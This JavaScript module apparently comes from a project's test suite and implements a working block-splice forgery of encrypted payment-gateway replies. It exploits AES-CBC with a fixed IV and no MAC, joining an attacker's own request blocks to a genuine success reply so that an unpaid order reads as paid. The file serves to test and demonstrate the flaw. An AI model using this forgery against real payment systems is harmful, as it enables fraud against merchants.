// The block-splice forgery of a CCAvenue reply (issue 21, item 1), as an attacker without the key does
// it. The protocol is AES-128-CBC with a fixed IV, no MAC, and one working key both ways, so any two
// adjacent ciphertext blocks decrypt to the same plaintext wherever they are put. The learner's own
// encRequest (in the payment frame's address) starts with the order id, currency and amount; a genuine
// reply for another order carries `order_status=Success`. Their first blocks joined to its tail decrypt
// to one garbage block at the joint, and that block can be computed offline from the reply's known
// start (order id and tracking id of the attacker's own payment). A joint whose garbage is valid UTF-8
// decrypts cleanly, and the first `order_id`, `currency` and `amount` (the request's) win.
// Shared by tests/reference-api/payment-forgery.test.ts and scripts/bench/money.mjs.

const IV = Buffer.from(Array.from({ length: 16 }, (_, i) => i));
const utf8 = new TextDecoder('utf-8', { fatal: true });

/** A hex ciphertext as 16-byte blocks. */
export function blocksOf(hex) {
  const bytes = Buffer.from(hex, 'hex');
  const blocks = [];
  for (let i = 0; i < bytes.length; i += 16) blocks.push(bytes.subarray(i, i + 16));
  return blocks;
}

function validUtf8(bytes) {
  try {
    utf8.decode(bytes);
    return true;
  } catch {
    return false;
  }
}

/**
 * Every forged reply an attacker gets from one encRequest and one genuine encResp, trying each joint:
 * the request's first k blocks (k covers `requestStart`: order id, currency, amount) then the reply from
 * block j (j inside `replyStart`, the part of its plaintext the attacker knows). Only joints whose
 * garbage block is valid UTF-8 are kept: those are the ones the API would open.
 * @param {{ encRequest: string, requestStart: string, encResp: string, replyStart: string }} input
 * @returns {{ forged: string[], tried: number }}
 */
export function spliceCandidates({ encRequest, requestStart, encResp, replyStart }) {
  const req = blocksOf(encRequest);
  const resp = blocksOf(encResp);
  const known = Buffer.from(replyStart, 'utf8');
  const kMin = Math.ceil(Buffer.byteLength(requestStart, 'utf8') / 16);
  const jMax = Math.min(Math.floor(known.length / 16) - 1, resp.length - 2);
  const forged = [];
  let tried = 0;
  for (let k = kMin; k <= req.length; k++) {
    for (let j = 0; j <= jMax; j++) {
      tried += 1;
      const prev = j === 0 ? IV : resp[j - 1];
      const joint = Buffer.alloc(16);
      for (let b = 0; b < 16; b++) joint[b] = known[j * 16 + b] ^ prev[b] ^ req[k - 1][b];
      if (!validUtf8(joint)) continue;
      forged.push(Buffer.concat([...req.slice(0, k), ...resp.slice(j)]).toString('hex'));
    }
  }
  return { forged, tried };
}

/** What the attacker knows of the request's start: the fields the API puts first (gateway-client.ts). */
export const requestStartOf = ({ merchantId, orderId, amount }) => `merchant_id=${merchantId}&order_id=${orderId}&currency=AED&amount=${amount}&`;

/** What the attacker knows of a reply's start: their own order id and the tracking id the card page showed. */
export const replyStartOf = ({ orderId, trackingId }) => `order_id=${orderId}&tracking_id=${trackingId}&bank_ref_no=`;
